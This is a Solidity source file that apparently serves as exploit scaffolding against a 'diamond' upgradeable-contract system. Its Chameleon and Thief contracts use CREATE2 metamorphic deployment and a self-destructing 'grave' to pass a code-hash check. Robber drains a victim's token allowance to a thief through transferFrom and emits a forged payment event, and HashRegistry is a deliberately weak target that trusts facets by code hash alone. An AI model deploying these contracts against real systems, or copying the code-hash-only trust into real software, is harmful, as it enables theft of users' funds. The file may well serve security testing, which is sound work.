// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev What attackers need to know of a cut.
struct Cut {
    address facet;
    uint8 action;
    bytes4[] selectors;
}

interface ICut {
    function diamondCut(Cut[] calldata cuts, address init, bytes calldata data) external;
}

interface IPlan {
    /// @return like Whose code a `Chameleon` is to have.
    /// @return commander What it is to have as the registry of its own storage.
    /// @return grave What its constructor delegatecalls, if anything.
    function plan() external view returns (address like, address commander, address grave);
}

/// @notice Becomes what its creator says at that moment, at an address that does not depend on it.
contract Chameleon {
    constructor() {
        (address like, address commander, address grave) = IPlan(msg.sender).plan();
        // Once a contract has destroyed itself it still gets its code, and is gone at the end of the transaction.
        if (grave != address(0)) {
            (bool dead,) = grave.delegatecall("");
            dead;
        }
        bytes memory code = like.code;
        assembly {
            // ERC-7201 slot of "carat.diamond", whose first word holds the registry.
            sstore(0xcc9fdfee4690c74219d14b9b6ef2e9bd12b5199df9711d6f348fa27a76b6ac00, commander)
            return(add(code, 0x20), mload(code))
        }
    }
}

/// @notice A registry that grants every role and approves every code: each answer begins with the word 1, then 0.
contract YesRegistry {
    fallback() external {
        assembly {
            mstore(0x00, 1)
            mstore(0x20, 0)
            return(0x00, 0x40)
        }
    }
}

/// @notice What is put in the place of the dead copy: it runs in the storage and with the allowances of a diamond.
contract Robber is ICut {
    event DealPaid(
        uint256 indexed dealId,
        bytes32 indexed termsHash,
        address indexed payer,
        address token,
        address payee,
        uint256 amount
    );

    error NothingToTake();

    struct Loot {
        address token;
        address victim;
        address thief;
        uint256 amount;
        uint256 dealId;
        bytes32 termsHash;
        address payee;
    }

    function diamondCut(Cut[] calldata, address, bytes calldata data) external {
        Loot memory loot = abi.decode(data, (Loot));
        (bool ok,) = loot.token
            .call(
                abi.encodeWithSignature("transferFrom(address,address,uint256)", loot.victim, loot.thief, loot.amount)
            );
        if (!ok) revert NothingToTake();
        emit DealPaid(loot.dealId, loot.termsHash, loot.victim, loot.token, loot.payee, loot.amount);
    }
}

/// @notice What a thief has a stolen account delegate to (EIP-7702), or is root himself: it runs as that account.
contract Thief is IPlan {
    address private model;
    address private orders;
    address private death;

    error NoCopy();

    function plan() external view returns (address, address, address) {
        return (model, orders, death);
    }

    /// @notice Where `copy` with this salt puts whatever it is told to.
    function copyAddress(bytes32 salt) external view returns (address) {
        bytes32 codeHash = keccak256(type(Chameleon).creationCode);
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", address(this), salt, codeHash)))));
    }

    /// @notice Makes a copy of a contract; with a grave it lives for this transaction only.
    function copy(bytes32 salt, address like, address commander, address grave) external {
        (model, orders, death) = (like, commander, grave);
        if (address(new Chameleon{salt: salt}()).codehash != like.codehash) revert NoCopy();
    }

    /// @notice Any calls of the account in one transaction, to itself as well.
    function run(address[] calldata targets, bytes[] calldata calls) external {
        for (uint256 i; i < targets.length; ++i) {
            (bool ok, bytes memory answer) = targets[i].call(calls[i]);
            if (ok) continue;
            assembly {
                revert(add(answer, 0x20), mload(answer))
            }
        }
    }
}

/// @notice A registry of diamonds that knows facets by their code hash alone, whatever address they are at.
contract HashRegistry {
    address public root;
    bool public paused;
    address private upgrader;
    address[] private facets;
    mapping(bytes32 codeHash => bool) private approved;

    constructor(address upgrader_, address[] memory facets_) {
        root = msg.sender;
        upgrader = upgrader_;
        facets = facets_;
        for (uint256 i; i < facets_.length; ++i) {
            approved[facets_[i].codehash] = true;
        }
    }

    function release() external view returns (string memory, address[] memory) {
        return ("weak", facets);
    }

    function roleState(bytes32 role, address account) external view returns (bool, bool) {
        return (role == "upgrader" && account == upgrader, false);
    }

    function isApproved(address facet) external view returns (bool) {
        return approved[facet.codehash];
    }

    /// @notice Makes a diamond.
    function create(bytes memory creationCode) external returns (address made) {
        assembly {
            made := create2(0, add(creationCode, 0x20), mload(creationCode), 0)
        }
    }
}
